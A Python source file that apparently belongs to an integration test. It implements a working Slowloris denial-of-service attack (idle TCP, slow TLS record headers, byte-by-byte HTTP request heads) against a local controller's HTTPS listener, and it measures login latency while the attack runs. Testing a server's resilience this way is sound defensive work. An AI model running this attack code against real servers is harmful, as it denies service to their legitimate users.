#!/usr/bin/env python3
"""Slowloris against the controller's HTTPS listener (it_slowloris.sh).

  slowloris.py attack HOST PORT NSRC PER_SRC STATUS_FILE
      holds PER_SRC connections from each of NSRC source addresses
      127.0.1.1.. (each reopened 1 s after the server closed it), a third of
      each kind: TCP that never speaks; a TLS record header then one byte
      every 2 s; a full TLS handshake, then a request head one byte every
      2 s.  Starts paused: SIGUSR2 starts (or resumes) the attack, SIGUSR1
      pauses it (closes every connection, opens none).  Writes
      "open=N opened=M paused=0|1" to STATUS_FILE every 0.5 s.
  slowloris.py login URL CA SA_KEY CSR_FILE N OUT_FILE
      N service-account logins (POST /v1/client/login), each on a new TLS
      connection; appends one "ms status" line per login to OUT_FILE.
  slowloris.py serve URL CA SA_KEY CSR_FILE
      the same, for each line "N OUT_FILE" read from stdin; prints "done"
      after each (one process for every phase: Python's start-up alone
      takes seconds on the loaded machine).
"""
import http.client
import json
import os
import selectors
import signal
import socket
import ssl
import sys
import time
import urllib.parse


def attack(host, port, nsrc, per, status):
    """One thread, non-blocking sockets and a selector: the slots of
    NSRC x PER, each reopened 1 s after the server closed it."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    sel = selectors.DefaultSelector()
    slots = [{"src": "127.0.1.%d" % (i // per + 1), "kind": i % 3, "s": None, "at": 0.0}
             for i in range(nsrc * per)]
    st = {"open": 0, "opened": 0}
    last = 0.0
    # paused: the signal handlers only set the wish; the loop acts on it
    want = {"paused": True}
    paused = True
    signal.signal(signal.SIGUSR1, lambda *_: want.update(paused=True))
    signal.signal(signal.SIGUSR2, lambda *_: want.update(paused=False))

    def close(c):
        if c["s"] is not None:
            try:
                sel.unregister(c["s"])
            except (KeyError, ValueError):
                pass
            c["s"].close()
            if c.get("up"):
                st["open"] -= 1
        c.update(s=None, up=False, at=time.monotonic() + 1.0)

    def start(c):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((c["src"], 0))
            s.connect_ex((host, port))
        except OSError:
            s.close()
            c["at"] = time.monotonic() + 0.5
            return
        c.update(s=s, up=False, stage="connect", pos=0, next=0.0)
        sel.register(s, selectors.EVENT_WRITE, c)

    def step(c, ev):
        s = c["s"]
        if c["stage"] == "connect":
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return close(c)
            c["up"] = True
            st["open"] += 1
            st["opened"] += 1
            if c["kind"] == 2:
                c["s"] = s = ctx.wrap_socket(s, server_hostname="localhost",
                                              do_handshake_on_connect=False)
                c["stage"] = "tls"
            else:
                c["stage"] = "dribble"
                c["head"] = b"\x16\x03\x01\x02\x00" + os.urandom(512) if c["kind"] == 1 else b""
            sel.modify(s, selectors.EVENT_READ, c)
        if c["stage"] == "tls":
            try:
                s.do_handshake()
                c["stage"] = "dribble"
                c["head"] = b"POST /v1/client/login HTTP/1.1\r\nHost: localhost\r\nX-Pad: " + b"a" * 4000
            except ssl.SSLWantReadError:
                return
            except (ssl.SSLError, OSError):
                return close(c)
            return
        if ev & selectors.EVENT_READ:  # the server spoke or closed: closed for us
            try:
                d = s.recv(4096)
            except ssl.SSLWantReadError:
                return
            except (ssl.SSLError, OSError):
                d = b""
            if not d:
                return close(c)

    while True:
        now = time.monotonic()
        if want["paused"] != paused:
            paused = want["paused"]
            for c in slots:
                close(c)
                c["at"] = now
        for c in slots:
            if paused:
                break
            if c["s"] is None and now >= c["at"]:
                start(c)
            elif c["s"] is not None and c.get("stage") == "dribble" and now >= c["next"]:
                if c["pos"] < len(c["head"]):  # one byte every 2 s
                    try:
                        c["s"].send(c["head"][c["pos"]:c["pos"] + 1])
                        c["pos"] += 1
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        pass
                    except OSError:
                        close(c)
                        continue
                c["next"] = now + 2
        for key, ev in sel.select(timeout=0.05):
            step(key.data, ev)
        if now - last > 0.5:
            with open(status + ".tmp", "w") as f:
                f.write("open=%d opened=%d paused=%d\n" % (st["open"], st["opened"], paused))
            os.replace(status + ".tmp", status)
            last = now


def login(url, ca, key, csr_file, n, out):
    u = urllib.parse.urlsplit(url)
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    body = json.dumps({"csr": open(csr_file).read()}).encode()
    hdr = {"Authorization": "Bearer " + key, "Content-Type": "application/json"}
    with open(out, "a") as f:
        for _ in range(n):
            t0 = time.monotonic()
            try:
                c = http.client.HTTPSConnection(u.hostname, u.port, context=ctx, timeout=30,
                                                source_address=("127.0.0.1", 0))
                c.request("POST", "/v1/client/login", body=body, headers=hdr)
                r = c.getresponse()
                r.read()
                st = r.status
                c.close()
            except (OSError, http.client.HTTPException):
                st = 0
            f.write("%.2f %d\n" % ((time.monotonic() - t0) * 1000, st))


def serve(url, ca, key, csr_file):
    for line in sys.stdin:
        n, out = line.split()
        login(url, ca, key, csr_file, int(n), out)
        print("done", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(*sys.argv[2:6])
    elif sys.argv[1] == "attack":
        attack(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6])
    else:
        login(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]), sys.argv[7])
